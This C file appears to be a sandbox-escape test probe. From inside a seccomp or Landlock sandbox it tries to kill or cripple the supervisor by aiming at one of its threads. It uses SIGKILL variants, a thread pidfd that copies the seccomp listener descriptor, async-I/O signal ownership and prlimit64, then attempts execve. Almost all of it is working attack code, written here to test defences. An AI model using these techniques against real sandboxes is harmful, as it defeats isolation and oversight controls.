/* Aims at one of the supervisor's threads rather than its pid (found in
 * /proc/<supervisor>/task): kill, tkill, tgkill, rt_sigqueueinfo and
 * rt_tgsigqueueinfo with SIGKILL, a thread pidfd (PIDFD_THREAD, Linux 6.9)
 * to signal it or copy its descriptors (its seccomp listener), SIGKILL as
 * the SIGIO of a pipe and of a socket it is made to own (F_SETOWN +
 * F_SETSIG, FIOSETOWN), and a 1-second CPU limit through prlimit64. The
 * kernel applies each of these to the whole supervisor. Where Landlock's
 * signal scope exists (Linux 6.12+) it refuses the signals too, but not the
 * limit; elsewhere (Lambda) only the seccomp filter stands in the way. */
#include "evasion.h"
#include <dirent.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/wait.h>
extern char** environ;

static pid_t supervisor_thread(pid_t sup) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/task", sup);
  DIR* d = opendir(path);
  struct dirent* e;
  pid_t tid = -1;
  while (d && (e = readdir(d))) {
    pid_t t = (pid_t)atoi(e->d_name);
    if (t > 0 && t != sup) tid = t;
  }
  if (d) closedir(d);
  return tid;
}

int main(void) {
  pid_t sup = getppid();
  pid_t tid = supervisor_thread(sup);
  if (tid < 0) {
    printf("result: the supervisor has no other thread to aim at\n");
    return 1;
  }
  siginfo_t si;
  memset(&si, 0, sizeof si);
  si.si_signo = SIGKILL;
  si.si_code = SI_QUEUE;
  result("kill(supervisor thread, SIGKILL)", kill(tid, SIGKILL));
  result("tkill(supervisor thread, SIGKILL)", syscall(SYS_tkill, tid, SIGKILL));
  result("tgkill(supervisor, its thread, SIGKILL)", syscall(SYS_tgkill, sup, tid, SIGKILL));
  result("rt_sigqueueinfo(supervisor thread, SIGKILL)",
         syscall(SYS_rt_sigqueueinfo, tid, SIGKILL, &si));
  result("rt_tgsigqueueinfo(supervisor, its thread, SIGKILL)",
         syscall(SYS_rt_tgsigqueueinfo, sup, tid, SIGKILL, &si));
  long pidfd = syscall(SYS_pidfd_open, tid, O_EXCL /* PIDFD_THREAD */);
  result("pidfd_open(supervisor thread, PIDFD_THREAD)", pidfd);
  if (pidfd >= 0) {
    result("pidfd_send_signal(thread pidfd, SIGKILL)",
           syscall(SYS_pidfd_send_signal, pidfd, SIGKILL, NULL, 0));
    for (int fd = 0; fd < 32; ++fd) {
      long got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
      if (got >= 0) result("pidfd_getfd(a supervisor descriptor)", got);
    }
  }
  result("pidfd_getfd (any)", syscall(SYS_pidfd_getfd, 0, 0, 0));
  int p[2];
  if (pipe(p) == 0) {
    result("fcntl(pipe, F_SETOWN, supervisor thread)", fcntl(p[0], F_SETOWN, tid));
    result("fcntl(pipe, F_SETSIG, SIGKILL)", fcntl(p[0], F_SETSIG, SIGKILL));
    fcntl(p[0], F_SETFL, fcntl(p[0], F_GETFL) | O_ASYNC);
    write(p[1], "x", 1);
  }
  int s[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, s) == 0) {
    int owner = tid, on = 1;
    result("ioctl(socket, FIOSETOWN, supervisor thread)", ioctl(s[0], FIOSETOWN, &owner));
    ioctl(s[0], FIOASYNC, &on);
    write(s[1], "x", 1);
  }
  struct rlimit one_second = {1, 1};
  result("prlimit64(supervisor thread, RLIMIT_CPU, 1s)",
         syscall(SYS_prlimit64, tid, RLIMIT_CPU, &one_second, NULL));
  result("prlimit64(supervisor, RLIMIT_NOFILE, 0)",
         syscall(SYS_prlimit64, sup, RLIMIT_NOFILE, &(struct rlimit){0, 0}, NULL));
  usleep(200000);
  printf("result: supervisor %s\n", kill(sup, 0) == 0 || errno == EPERM ? "still there" : "gone");
  fflush(stdout);
  TOUCH_ARGV(argv);
  result("syscall(SYS_execve, /usr/bin/touch) after the attack",
         syscall(SYS_execve, "/usr/bin/touch", argv, environ));
  return 0;
}
